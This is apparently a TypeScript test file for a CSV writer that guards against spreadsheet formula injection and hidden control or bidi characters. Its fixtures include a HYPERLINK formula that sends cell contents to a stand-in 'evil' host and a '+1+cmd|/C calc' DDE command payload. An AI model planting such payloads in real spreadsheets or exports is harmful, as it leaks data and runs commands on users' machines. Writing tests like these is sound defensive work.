import fc from 'fast-check';
import { expect, test } from 'vitest';
import { type CsvCell, csvLine } from './csv.js';

/** Parses CSV by the rules of RFC 4180. */
function parsed(line: string): string[] {
  expect(line.endsWith('\r\n')).toBe(true);
  const cells: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",]*))(,|$)/y;
  const text = line.slice(0, -2);
  for (;;) {
    const match = cell.exec(text);
    if (!match) throw new Error(`no CSV: ${line}`);
    cells.push(match[1] === undefined ? match[2] : match[1].replaceAll('""', '"'));
    if (match[3] === '') return cells;
  }
}

test('a text that a spreadsheet would evaluate gets an apostrophe, in every column', () => {
  const formulas = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    '+1+cmd|/C calc',
    '-2+3',
    '@SUM(A1)',
    ' =1',
    '\u00a0=1',
    '＝1+1',
    '－x',
    '-',
    '=',
  ];
  expect(parsed(csvLine(formulas))).toEqual(formulas.map((text) => `'${text}`));
  // The invisible character before the sign is shown as an escape, so the escape is the cell's first character.
  expect(parsed(csvLine(['\t=1', '\r=1', '\n=1', '\u0000=1', '\ufeff=1', '\u200b=1']))).toEqual([
    '⇥=1',
    '\\x0d=1',
    '⏎=1',
    '\\x00=1',
    '\\ufeff=1',
    '\\u200b=1',
  ]);
});

test('numbers stay numbers, also those that are texts', () => {
  const cells = [-1.5, 0.1 + 0.2, 1e-300, true, null, '-5', '+0.5', '-1e-7', 'a-b', '1=1'];
  expect(csvLine(cells)).toBe('-1.5,0.30000000000000004,1e-300,true,,-5,+0.5,-1e-7,a-b,1=1\r\n');
});

test('a cell is a cell: quotes, separators, line ends, control and bidi characters', () => {
  expect(csvLine(['a,b', 'say "x"', 'a;=1+1', 'a\r\nb', '\u009b31m\u202eevil', '漢👩‍🔬'])).toBe(
    '"a,b","say ""x""","a;=1+1",a\\x0d⏎b,\\x9b31m\\u202eevil,漢👩‍🔬\r\n',
  );
});

test('any row reads back with as many cells, and none of them begins a formula or hides a character', () => {
  const texts = fc.string({
    unit: fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...'=+-@,";\t\r\n \'')),
  });
  fc.assert(
    fc.property(fc.array(fc.oneof(texts, fc.double(), fc.boolean()), { minLength: 1 }), (row: CsvCell[]) => {
      const cells = parsed(csvLine(row));
      expect(cells).toHaveLength(row.length);
      cells.forEach((cell, i) => {
        if (typeof row[i] !== 'string') expect(cell).toBe(String(row[i]));
        else {
          expect(Number.isFinite(Number(cell)) || !/^\s*[=+\-@]/.test(cell), cell).toBe(true);
          expect(cell).not.toMatch(/[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
        }
      });
    }),
  );
});
